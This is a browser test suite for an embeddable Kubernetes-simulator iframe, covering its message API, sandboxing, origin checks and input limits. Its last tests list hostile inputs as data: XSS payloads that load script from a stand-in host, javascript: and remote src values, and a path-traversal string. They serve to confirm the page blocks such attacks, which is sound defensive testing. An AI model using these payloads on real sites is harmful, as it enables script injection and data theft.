// embed.html in an <iframe>: its hash, its messages, a strict sandbox, and what hostile pages send.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { extname, join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { Browser, ENGINES } from "./engines.mjs";
import { launch, SHOP } from "./helper.mjs";

const dist = process.env.PODSCOPE_DIST || fileURLToPath(new URL("../../dist", import.meta.url));
const TYPES = { ".js": "text/javascript", ".css": "text/css", ".wasm": "application/wasm", ".html": "text/html", ".json": "application/json", ".md": "text/plain", ".yaml": "text/plain" };
const BESIDE = `<!doctype html><title>Beside</title><link rel="icon" href="data:,"><script src="/beside.js"></script>`;
const BESIDE_SCRIPT = `addEventListener("message", ({ data }) => parent.postMessage({ answered: data }, "*"));
parent.frames[0].postMessage({ podscope: 1, id: 1, method: "seek", params: [0] }, "*");
parent.postMessage({ asked: true }, "*");`;
let browser, near, far;

/** Serves `dist` below `/podscope/`, and empty pages; all that is asked for is noted. `open` is what else it answers. */
async function serve(open) {
  const asked = [];
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url, "http://localhost");
    asked.push(pathname);
    const type = TYPES[extname(pathname)] ?? "text/html";
    const headers = { "content-type": type, "content-security-policy": "default-src 'none'; script-src 'self'; frame-src *; style-src-attr 'unsafe-inline'; img-src data:", "x-content-type-options": "nosniff" };
    if (pathname.startsWith("/podscope/")) {
      // What the page says of itself is all that holds it.
      delete headers["content-security-policy"];
      if (open && type !== "text/html") headers["access-control-allow-origin"] = "*";
    }
    const pages = { "/beside": BESIDE, "/beside.js": BESIDE_SCRIPT, "/": `<!doctype html><title>Docs</title><link rel="icon" href="data:,"><main></main>`, "/podscope/shop.yaml": SHOP };
    try {
      // As its owner may have written it.
      if (pathname === "/podscope/named.html")
        pages[pathname] = readFileSync(join(dist, "embed.html"), "utf8").replace("<html lang=\"en\">", `<html lang="en" data-parents="https://docs.example ${new URL(far.address).origin}">`);
      const body = pages[pathname] ?? readFileSync(join(dist, pathname.replace(/^\/podscope\//, "")));
      response.writeHead(200, headers).end(body);
    } catch {
      response.writeHead(404).end();
    }
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { address: `http://127.0.0.1:${server.address().port}/`, asked, stop: () => server.close() };
}

before(async () => {
  [near, far] = [await serve(true), await serve(false)];
  browser = await launch();
});
after(async () => {
  await browser?.close();
  near?.stop();
  far?.stop();
});

/** A page of `near` with `connect` and `address` at hand, and a function that puts a frame on it. */
async function parent(at = near) {
  const context = await browser.newContext({ viewport: { width: 1000, height: 800 } });
  const page = await context.newPage();
  const trouble = [];
  const seen = [];
  page.on("pageerror", (e) => trouble.push(`error: ${e.message}`));
  page.on("console", (m) => ["error", "warning"].includes(m.type()) && trouble.push(`${m.type()}: ${m.text()}`));
  page.on("request", (r) => seen.push(r.url()));
  await page.goto(at.address);
  await page.evaluate(async () => {
    const { connect, address } = await import(new URL("podscope/connect.js", location.href));
    Object.assign(window, { connect, address, heard: [] });
    addEventListener("message", ({ data }) => heard.push(data));
    window.frame = (src, sandbox) => {
      const made = document.createElement("iframe");
      if (sandbox !== undefined) made.setAttribute("sandbox", sandbox);
      made.src = src;
      made.width = 800;
      document.querySelector("main").replaceChildren(made);
      return made;
    };
    /** Sends a message as it is, and gives the answer to its id. */
    window.ask = (message, to = document.querySelector("iframe").contentWindow) => new Promise((done) => {
      const hear = ({ data }) => {
        if (data?.id !== message.id || data.id === undefined) return;
        removeEventListener("message", hear);
        done(data);
      };
      addEventListener("message", hear);
      to.postMessage(message, "*");
    });
  });
  return { page, trouble, seen };
}
const shop = (page) => page.frameLocator("iframe").getByRole("button", { name: /^shop-.*Running, Ready/ });
const settled = async (page, count) => {
  await shop(page).nth(count - 1).waitFor();
  assert.equal(await shop(page).count(), count);
};

for (const [name, sandbox] of [["a plain frame", undefined], ["a strict sandbox", "allow-scripts"]]) {
  test(`${name}: the hash is what it shows, and every method of a connection does its work`, async () => {
    const { page, trouble, seen } = await parent();
    const done = await page.evaluate(async ([yaml, sandbox]) => {
      const made = frame(address("podscope/embed.html", { yaml, startAt: "30s", seed: 7, speed: 50, theme: "dark" }), sandbox);
      const player = await connect(made);
      window.player = player;
      const events = [];
      for (const type of ["play", "pause", "seek", "change", "dispose"]) player.on(type, (event) => events.push(event));
      const begun = await player.state();
      await player.scale("deployment/shop", 4);
      const [applied] = await player.apply("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec: {selector: {app: shop}, ports: [{port: 80}]}");
      const then = (await player.state()).currentTime;
      await player.step();
      const stepped = (await player.state()).currentTime;
      await player.seek("1m");
      await player.speed(100);
      await player.play();
      const printed = [];
      const rolled = await player.kubectl("rollout status deploy/shop", { output: (text) => printed.push(text) });
      await player.pause();
      const piped = await player.kubectl("apply -f -", { stdin: "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata: {a: b}" });
      const stop = new AbortController();
      const watched = player.kubectl("get pods -w", { signal: stop.signal });
      stop.abort();
      const refused = await player.scale("deployment/none", 2).catch(({ message, code, status }) => ({ message, code, status }));
      return { begun, applied, rolled, printed, piped, watched: await watched, then, stepped, after: await player.state(), refused, events,
        why: await player.explain({ kind: "Deployment", name: "shop" }), snapshot: await player.snapshot() };
    }, [SHOP, sandbox]);
    assert.deepEqual(done.begun, { currentTime: 30, duration: 30, paused: true, speed: 50 });
    assert.equal(done.applied.what, "created");
    assert.equal(done.rolled.exitCode, 0, done.rolled.stderr);
    assert.equal(done.printed.join(""), done.rolled.stdout);
    assert.equal(done.piped.stdout, "configmap/c created\n");
    assert.equal(done.watched.exitCode, null);
    assert.ok(done.stepped > done.then && done.after.speed === 100, JSON.stringify(done.after));
    assert.deepEqual(done.refused, { message: 'deployments.apps "none" not found', code: "NotFound", status: 404 });
    assert.equal(done.why.mood, "well");
    assert.equal(done.snapshot.seed, 7);
    assert.deepEqual([...new Set(done.events.map((e) => e.type))].sort(), ["change", "pause", "play", "seek"]);
    await settled(page, 4);
    const root = page.frameLocator("iframe").locator(".ps-embed");
    assert.equal(await root.getAttribute("data-theme"), "dark");
    await page.evaluate(() => player.theme("light"));
    await page.frameLocator("iframe").locator(".ps-embed[data-theme=light]").waitFor();
    const reset = await page.evaluate(async () => {
      await player.reset();
      const { currentTime } = await player.state();
      await player.dispose();
      return [currentTime, await player.play().catch((e) => e.code)];
    });
    assert.deepEqual(reset, [30, "Gone"]);
    await page.frameLocator("iframe").locator(".ps-embed").waitFor({ state: "detached" });
    assert.deepEqual(trouble, []);
    assert.deepEqual(seen.filter((url) => !url.startsWith(near.address) && !url.startsWith("data:")), []);
    await page.context().close();
  });
}

for (const [name, sandbox] of [["a plain frame", undefined], ["a strict sandbox", "allow-scripts"]]) {
  test(`${name}: a fork goes on from the same instant, each on its own`, async () => {
    const { page, trouble } = await parent();
    const done = await page.evaluate(async ([yaml, sandbox]) => {
      const first = frame(address("podscope/embed.html", { yaml, startAt: "30s", seed: 7, theme: "dark", controls: "time" }), sandbox);
      const player = await connect(first);
      await player.scale("deployment/shop", 4);
      await player.seek(45);
      const twin = () => document.querySelector("main").appendChild(document.createElement("iframe"));
      const second = twin();
      const other = await player.fork(second);
      const begun = [await player.snapshot(), await other.snapshot()];
      await other.scale("deployment/shop", 1);
      await other.seek("1m30s");
      // A fork can be forked.
      const third = await other.fork(twin());
      const pods = async (of) => (await of.kubectl("get pods -o name")).stdout.trim().split("\n").length;
      return { begun, sandboxes: [...document.querySelectorAll("iframe")].map((e) => e.getAttribute("sandbox")),
        pods: [await pods(player), await pods(other), await pods(third)], times: [(await player.state()).currentTime, (await third.state()).currentTime] };
    }, [SHOP, sandbox]);
    const [{ inputs, time, seed }, twin] = done.begun;
    assert.deepEqual({ inputs: twin.inputs, time: twin.time, seed: twin.seed }, { inputs, time, seed });
    assert.equal(seed, 7);
    assert.equal(inputs.length > 1, true);
    assert.deepEqual(done.sandboxes, Array(3).fill(sandbox ?? null));
    assert.deepEqual(done.pods, [4, 1, 1]);
    assert.deepEqual(done.times, [45, 90]);
    // It is shown as the first one is.
    const root = page.frameLocator("iframe >> nth=2").locator(".ps-embed");
    assert.equal(await root.getAttribute("data-theme"), "dark");
    assert.equal(await root.getByRole("button", { name: /^Scale/ }).count(), 0);
    assert.deepEqual(trouble, []);
    await page.context().close();
  });
}

test("a frame has the height of what it shows, also when that changes", async () => {
  const { page, trouble } = await parent();
  const heights = () => page.evaluate(() => [document.querySelector("iframe").clientHeight, heard.filter((m) => m.event === "resize").length]);
  await page.evaluate(async (yaml) => {
    window.player = await connect(frame(address("podscope/embed.html", { yaml, startAt: 30 }), "allow-scripts"));
  }, SHOP);
  const inside = () => page.frameLocator("iframe").locator("pod-scope").evaluate((e) => Math.ceil(e.getBoundingClientRect().height));
  await page.waitForFunction((h) => document.querySelector("iframe").clientHeight === h, await inside());
  const [before] = await heights();
  assert.ok(before > 150 && before <= 561, `${before}`);
  await page.evaluate(async (yaml) => {
    document.querySelector("iframe").width = 300;
    for (let i = 0; i < 6; i++) await player.apply(yaml.replaceAll("shop", `shop${i}`));
    await player.seek(60);
  }, SHOP);
  await page.waitForFunction((h) => document.querySelector("iframe").clientHeight > h + 100, before);
  await page.waitForFunction((h) => document.querySelector("iframe").clientHeight === h, await inside());
  const [, told] = await heights();
  assert.ok(told < 100, `${told} messages`);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test("another hash shows another cluster, listened to as the first; an unknown option is named", async () => {
  const { page, trouble } = await parent();
  await page.evaluate(async (yaml) => {
    window.made = frame(address("podscope/embed.html", { yaml, startAt: 30 }), "allow-scripts");
    window.player = await connect(made);
    window.seeks = [];
    player.on("seek", ({ time }) => seeks.push(time));
    made.src = address("podscope/embed.html", { yaml: yaml.replaceAll("shop", "bar"), startAt: 40, onclick: "alert(1)" });
  }, SHOP);
  await page.frameLocator("iframe").getByRole("button", { name: /^bar-.*Running, Ready/ }).first().waitFor();
  await page.evaluate(() => player.seek(45));
  assert.deepEqual(await page.evaluate(() => seeks), [45]);
  assert.deepEqual(trouble, ["warning: pod-scope: there is no option onclick"]);
  await page.context().close();
});

test("a deflated manifest, a playground's link, src and a scenario work in a strict sandbox", async () => {
  const { page, trouble } = await parent();
  await page.evaluate(() => import(new URL("podscope/share.js", location.href)));
  const show = (hash) => page.evaluate((hash) => void frame(`podscope/embed.html#${hash}`, "allow-scripts"), hash);
  const pack = (text) => page.evaluate((text) => podscopePack(text), text);
  await show(`packed=${await pack(SHOP)}&start-at=30`);
  await settled(page, 2);
  await show("src=shop.yaml&start-at=30&zoom");
  await settled(page, 2);
  await page.frameLocator("iframe").getByRole("button", { name: "Zoom in" }).click();
  await show("scenario=reverse-deletion");
  await page.frameLocator("iframe").locator(".scenario h2").waitFor();
  const snapshot = await page.evaluate(async (yaml) => {
    const player = await connect(frame(address("podscope/embed.html", { yaml, seed: 9 })));
    await player.seek(20);
    await player.scale("deployment/shop", 3);
    return player.snapshot();
  }, SHOP);
  const run = { podscope: 1, seed: snapshot.seed, yaml: "", inputs: snapshot.inputs, now: 50e6, end: 50e6 };
  await show(`v1.${await pack(JSON.stringify(run))}&controls=time`);
  await settled(page, 3);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test("without CORS headers, a plain frame works and a strict sandbox says that it cannot", async () => {
  const { page } = await parent(far);
  await page.evaluate((yaml) => void frame(address("podscope/embed.html", { yaml, startAt: 30 })), SHOP);
  await settled(page, 2);
  const code = await page.evaluate((yaml) =>
    connect(frame(address("podscope/embed.html", { yaml }), "allow-scripts"), { timeout: 1000 }).catch((e) => e.code), SHOP);
  assert.equal(code, "Timeout");
  await page.context().close();
});

test("pages of other origins are heard where they are named, and never where what is shown comes from an address", async () => {
  const { page } = await parent(far);
  const answered = (options, sandbox, patience, name = "embed") => page.evaluate(async ([page, options, sandbox, patience]) => {
    heard.length = 0;
    frame(address(page, options), sandbox);
    while (!heard.some((m) => m.event === "ready")) await new Promise((next) => setTimeout(next, 20));
    const other = new Promise((done) => patience && setTimeout(done, patience, "none"));
    const got = await Promise.race([other, ask({ podscope: 1, id: 1, method: "kubectl", params: ["get deploy -o name"] })]);
    return got.result?.stdout ?? got;
  }, [`${near.address}podscope/${name}.html`, options, sandbox, patience]);
  const unheard = async (options) => assert.equal(await answered(options, undefined, 400), "none");
  const { origin } = new URL(far.address);
  const yaml = SHOP;
  await unheard({ yaml });
  await unheard({ yaml, parents: "https://docs.example" });
  assert.equal(await answered({ yaml, parents: ["https://docs.example", origin] }), "deployment.apps/shop\n");
  // Whoever writes the hash could name themselves.
  await unheard({ src: "shop.yaml", parents: origin });
  // The owner of the frame's page may.
  assert.equal(await answered({ src: "shop.yaml" }, undefined, undefined, "named"), "deployment.apps/shop\n");
  // In a sandbox it is asked for as anybody would.
  assert.equal(await answered({ src: "shop.yaml" }, "allow-scripts"), "deployment.apps/shop\n");
  const wrong = await page.evaluate(async (page) => {
    heard.length = 0;
    frame(`${page}#src=embed.html`);
    while (!heard.some((m) => m.event === "error")) await new Promise((next) => setTimeout(next, 20));
    return heard.find((m) => m.event === "error").detail.message;
  }, `${near.address}podscope/embed.html`);
  assert.equal(wrong, "the manifest cannot be shown");
  await page.context().close();
});

test("messages from a window that is not around the frame are not heard", async () => {
  const { page, trouble } = await parent();
  const answers = await page.evaluate(async (yaml) => {
    const made = frame(address("podscope/embed.html", { yaml }));
    const player = await connect(made);
    await player.seek(30);
    // A frame beside it, of the same origin, that asks for time to go back, and says when it did and what was answered.
    const beside = document.createElement("iframe");
    beside.src = "/beside";
    document.body.append(beside);
    while (!heard.some((m) => m.asked)) await new Promise((next) => setTimeout(next, 20));
    // What was sent before is read before this.
    const { currentTime } = await player.state();
    return [currentTime, heard.filter((m) => m.answered)];
  }, SHOP);
  assert.deepEqual(answers, [30, []]);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test("docs/embedding.md has a row for each method", async () => {
  const { page } = await parent();
  await page.evaluate(async (yaml) => void (await connect(frame(address("podscope/embed.html", { yaml }), "allow-scripts"))), SHOP);
  const { version, methods, events } = (await page.evaluate(() => ask({ podscope: 1, id: "h", method: "hello" }))).result;
  const docs = readFileSync(new URL("../../docs/embedding.md", import.meta.url), "utf8");
  const [, table] = /\n\| method \|.*\n\|.*\n((?:\|.*\n)+)/.exec(docs);
  const named = table.trim().split("\n").map((row) => [...row.split("|")[1].matchAll(/`(\w+)`/g)].map(([, name]) => name));
  assert.equal(version, 1);
  assert.deepEqual(named.flat().sort(), methods.sort());
  for (const event of events) assert.ok(table.includes(`\`${event}\``), event);
  await page.context().close();
});

test("what is wrong with a message is said, and nothing else happens", async () => {
  const { page, trouble } = await parent();
  await page.evaluate(async (yaml) => void (await connect(frame(address("podscope/embed.html", { yaml, startAt: 30 }), "allow-scripts"))), SHOP);
  const say = (message) => page.evaluate((message) => ask(message), message);
  const refused = async (message, code, words) => {
    const { error } = await say({ podscope: 1, id: `x${Math.random()}`, ...message });
    assert.deepEqual([error?.code, words.test(error?.message)], [code, true], JSON.stringify([message, error]).slice(0, 400));
  };
  await refused({ podscope: 2, method: "play" }, "Version", /version 1/);
  await refused({ podscope: "1", method: "play" }, "Version", /version 1/);
  for (const method of ["constructor", "__proto__", "toString", "hasOwnProperty", "beside", "", 7, null, ["play"], { toString: "play" }])
    await refused({ method }, "NotFound", /no such method/);
  await refused({ method: "play", params: [1] }, "BadRequest", /0 parameters/);
  await refused({ method: "play", params: { length: 0 } }, "BadRequest", /in a list/);
  await refused({ method: "scale", params: ["deployment/shop", "4"] }, "BadRequest", /parameter 2.*whole number/);
  await refused({ method: "scale", params: ["deployment/shop", 1e6] }, "BadRequest", /at most 1000/);
  await refused({ method: "scale", params: [{ name: "shop" }, 4] }, "BadRequest", /parameter 1.*text/);
  await refused({ method: "scale", params: [["deployment/shop"], 4] }, "BadRequest", /parameter 1/);
  await refused({ method: "seek", params: [1e9] }, "BadRequest", /86400/);
  await refused({ method: "seek", params: [-1] }, "BadRequest", /0 to/);
  await refused({ method: "seek", params: ["1000000h"] }, "BadRequest", /86400/);
  await refused({ method: "seek", params: ["soon"] }, "BadRequest", /instant/);
  await refused({ method: "speed", params: [0] }, "BadRequest", /0.01/);
  await refused({ method: "on", params: ["__proto__"] }, "BadRequest", /one of/);
  await refused({ method: "theme", params: ["\"><script>"] }, "BadRequest", /one of/);
  await refused({ method: "kubectl", params: ["get pods", 5] }, "BadRequest", /object/);
  await refused({ method: "kubectl", params: ["get pods", { stdin: { length: 3 } }] }, "BadRequest", /text/);
  await refused({ method: "apply", params: ["x".repeat(1_000_001)] }, "RequestEntityTooLarge", /1000000 characters/);
  await refused({ method: "kubectl", params: ["x".repeat(10_001)] }, "RequestEntityTooLarge", /10000 characters/);
  await refused({ method: "apply", params: ["a: &a [x,x]\nb: [*a"] }, "Invalid", /./);
  // What is no message of ours, or asks for no answer, is left alone.
  const left = await page.evaluate(async () => {
    heard.length = 0;
    const to = document.querySelector("iframe").contentWindow;
    for (const data of [null, 1, "play", [], {}, { podscope: 1 }, { podscope: 1, id: {}, method: "play" }, { podscope: 1, id: "x".repeat(101), method: "play" },
      { podscope: 1, id: NaN, method: "play" }, { id: 5, method: "play" }, new Map([["podscope", 1]]), new Uint8Array(1e7), { event: "ready", podscope: 1 }])
      to.postMessage(data, "*");
    await ask({ podscope: 1, id: "last", method: "hello" });
    return heard.map((m) => m.id);
  });
  assert.deepEqual(left, ["last"]);
  // A hundred may wait; each is ended when the frame is.
  const flood = await page.evaluate(async () => {
    const all = Array.from({ length: 130 }, (_, i) => ask({ podscope: 1, id: `w${i}`, method: "kubectl", params: ["get pods -w"] }));
    const first = await Promise.race(all);
    const cancelled = Array.from({ length: 130 }, (_, i) => ask({ podscope: 1, id: `c${i}`, method: "cancel", params: [`w${i}`] }));
    await Promise.all(cancelled);
    const codes = (await Promise.all(all)).map(({ error }) => error?.code ?? "");
    return [first.error?.code, codes.filter((c) => c === "TooManyRequests").length, codes.length];
  });
  assert.deepEqual(flood, ["TooManyRequests", 30, 130]);
  const state = (await say({ podscope: 1, id: 1, method: "state" })).result;
  assert.deepEqual(state, { currentTime: 30, duration: 30, paused: true, speed: 1 });
  await settled(page, 2);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

const many = (count) => Array.from({ length: count }, (_, i) => SHOP.replaceAll("shop", `shop${i}`)).join("---\n");

test("what asks for too much is stopped, with a message, and the page goes on", async () => {
  const { page, trouble, seen } = await parent();
  /** What comes of a hash: the frame's error. */
  const fails = (options) => page.evaluate((options) =>
    connect(frame(address("podscope/embed.html", options), "allow-scripts"), { timeout: 60_000 }).then(() => "it lives", ({ message, code }) => [code, message]), options);
  assert.deepEqual(await fails({ yaml: many(401) }), ["LimitExceeded", "more than 400 objects are too much for a page"]);
  assert.deepEqual(await fails({ yaml: `# ${"x".repeat(1_000_000)}` }), ["LimitExceeded", "more than 1000000 characters are too much for a page"]);
  assert.match((await fails({ yaml: "[".repeat(100_000) }))[1], /max depth/);
  const aliases = [..."abcdefghi"].map((name, i) => `${"bcdefghij"[i]}: &${"bcdefghij"[i]} [${Array(10).fill(`*${name}`)}]\n`).join("");
  assert.match((await fails({ yaml: `a: &a [x,x,x,x,x,x,x,x,x,x]\n${aliases}` }))[1], /excessive aliasing/);
  // A million pods: some of them are made, and then it stops, while the page around still answers.
  await page.evaluate(async (yaml) => {
    window.longest = 0;
    let last = performance.now();
    setInterval(() => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    }, 50);
    frame(address("podscope/embed.html", { yaml, autoplay: true, speed: 100 }), "allow-scripts");
  }, SHOP.replace("replicas: 2", "replicas: 1000000"));
  const alert = page.frameLocator("iframe").getByRole("alert");
  await alert.waitFor({ timeout: 120_000 });
  assert.match(await alert.textContent(), /^more than 20\d\d\d steps are too much for a page$/);
  assert.ok(await page.frameLocator("iframe").getByText("replicas: 1000000").isVisible(), "the manifest stays readable");
  const longest = await page.evaluate(() => longest);
  assert.ok(longest < 5000, `${longest} ms without an answer`);
  // Messages may ask for no more, and end what they overload.
  const asked = await page.evaluate(async ([yaml, lots]) => {
    const player = await connect(frame(address("podscope/embed.html", { yaml }), "allow-scripts"));
    const applied = await player.apply(lots).catch(({ code }) => code);
    return [applied, await player.state().catch(({ code }) => code)];
  }, [SHOP, many(401).replaceAll("shop", "more")]);
  assert.equal(asked[0], "LimitExceeded");
  assert.ok(trouble.every((line) => /^warning: pod-scope: (more than|yaml)/.test(line)), `${trouble}`);
  assert.deepEqual(seen.filter((url) => !url.startsWith(near.address) && !url.startsWith("data:")), []);
  await page.context().close();
});

test("nothing in a hash runs script or asks for anything elsewhere", async () => {
  const script = `"><img src=//evil.example/x onerror=alert(1)><script src=//evil.example/y></script>`;
  const yaml = (name) => `${SHOP.replace("image: nginx", `image: ${JSON.stringify(`${script}`)}`)}---
apiVersion: v1
kind: ConfigMap
metadata: {name: ${name}, annotations: {a: ${JSON.stringify(script)}}}
data: {${JSON.stringify("a")}: ${JSON.stringify(script)}}
`;
  const { page, trouble, seen } = await parent();
  await page.exposeFunction("ran", () => trouble.push("script ran"));
  const show = async (hash, sandbox) => {
    await page.evaluate(([hash, sandbox]) => void frame(`podscope/embed.html#${hash}`, sandbox), [hash, sandbox]);
    await page.frameLocator("iframe").locator(".ps-embed, [role=alert]").first().waitFor();
  };
  const bad = [
    `src=https://evil.example/a.yaml`, `src=//evil.example/a.yaml`, `src=data:text/plain,kind:%20Pod`, `src=javascript:alert(1)`, `src=blob:null/x`,
    `scenario=https://evil.example/a.md`, `scenario=../../../etc/passwd`, `scenario=constructor`, `packed=${"A".repeat(2000)}`, `v1.AAAA`, `v1.`,
  ];
  for (const hash of bad) {
    for (const sandbox of [undefined, "allow-scripts"]) {
      await show(hash, sandbox);
      assert.ok(await page.frameLocator("iframe").getByRole("alert").isVisible(), hash);
    }
  }
  const good = [
    new URLSearchParams({ yaml: yaml("a"), "start-at": "30", view: "both", zoom: "" }), new URLSearchParams({ yaml: SHOP, theme: script, height: `1px;background:url(//evil.example/z)`, focus: script, seed: script }),
    "yaml=&__proto__=1&constructor=2&onload=alert(1)&onclick=alert(1)",
  ];
  for (const hash of good) await show(String(hash));
  await page.evaluate(async ([page, script, yaml]) => {
    const player = await connect(frame(page), { resize: false });
    await player.apply(yaml);
    await player.seek(30);
    await player.kubectl(`create configmap x --from-literal=a='${script}'`);
    await player.kubectl(`get pods -o jsonpath='${script}{.items}'`);
    await player.explain({ kind: script, name: script }).catch(() => {});
  }, [`podscope/embed.html#${new URLSearchParams({ yaml: SHOP })}`, script, yaml("b")]);
  await page.frameLocator("iframe").locator(".ps-embed").waitFor();
  assert.deepEqual(seen.filter((url) => !url.startsWith(near.address) && !url.startsWith("data:")), []);
  // What is refused is told as a warning, and what is not there on the frame's own origin as an error; the policy had nothing to stop.
  assert.deepEqual(trouble.filter((line) => !/^warning: pod-scope: |404|ERR_FAILED|from origin 'null' has been blocked by CORS policy/.test(line)), []);
  assert.deepEqual(page.frames().filter((one) => !one.url().startsWith(near.address)).length, 0);
  await page.context().close();
});

test("what embed.html says of itself holds: no script, style or data of elsewhere", async () => {
  const { page } = await parent();
  for (const sandbox of [undefined, "allow-scripts"]) {
    await page.evaluate(async ([yaml, sandbox]) => void (await connect(frame(address("podscope/embed.html", { yaml }), sandbox))), [SHOP, sandbox]);
    const inside = page.frames().find((one) => one.url().includes("embed.html"));
    const stopped = await inside.evaluate(async () => {
      const stopped = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
      const attempts = [
        () => fetch("http://evil.example/"), () => (new Image().src = "http://evil.example/i"), () => new Function("return 1")(), () => (document.body.innerHTML = "<b>x</b>"),
        () => document.body.append(Object.assign(document.createElement("iframe"), { src: "http://evil.example/f" })),
        () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://evil.example/s" })),
        () => import("http://evil.example/m.js"), () => import(`${new URL("..", location.href)}elsewhere.js`), () => new Worker("http://evil.example/w"),
      ];
      for (const attempt of attempts) await (async () => attempt())().catch(() => {});
      while (stopped.length < attempts.length) await new Promise((next) => setTimeout(next, 20));
      return stopped.sort();
    });
    assert.deepEqual([...new Set(stopped)], ["connect-src", "frame-src", "img-src", "require-trusted-types-for", "script-src-elem", "style-src-elem"].sort());
  }
  // What was stopped is announced by the browser too, but asked of nobody.
  assert.ok(!near.asked.includes("/elsewhere.js"));
  await page.context().close();
});

for (const { name, there } of ENGINES.filter(({ name }) => name !== "chromium")) {
  test(`${name}: a strict sandbox and a plain frame live, answer, and have the height of what they show`, { skip: !there && `no ${name} here` }, async () => {
    const page = await Browser.start(name);
    try {
      await page.goto(near.address);
      for (const sandbox of ["allow-scripts", null]) {
        const told = await page.run(async (yaml, sandbox) => {
          const { connect, address } = await import(new URL("podscope/connect.js", location.href));
          const made = document.createElement("iframe");
          if (sandbox) made.setAttribute("sandbox", sandbox);
          made.src = address("podscope/embed.html", { yaml, startAt: "30s" });
          document.querySelector("main").replaceChildren(made);
          const player = await connect(made);
          const changes = [];
          player.on("change", ({ time }) => changes.push(time));
          await player.scale("deployment/shop", 3);
          await player.seek("1m");
          const { stdout } = await player.kubectl("get deploy shop -o jsonpath={.status.readyReplicas}");
          while (made.clientHeight < 160) await new Promise((next) => setTimeout(next, 50));
          return [stdout, changes.length > 0, await player.scale("deployment/none", 3).catch((e) => e.code), (await player.explain("deployment/shop")).mood];
        }, SHOP, sandbox);
        assert.deepEqual(told, ["3", true, "NotFound", "well"]);
      }
    } finally {
      await page.close();
    }
  });
}
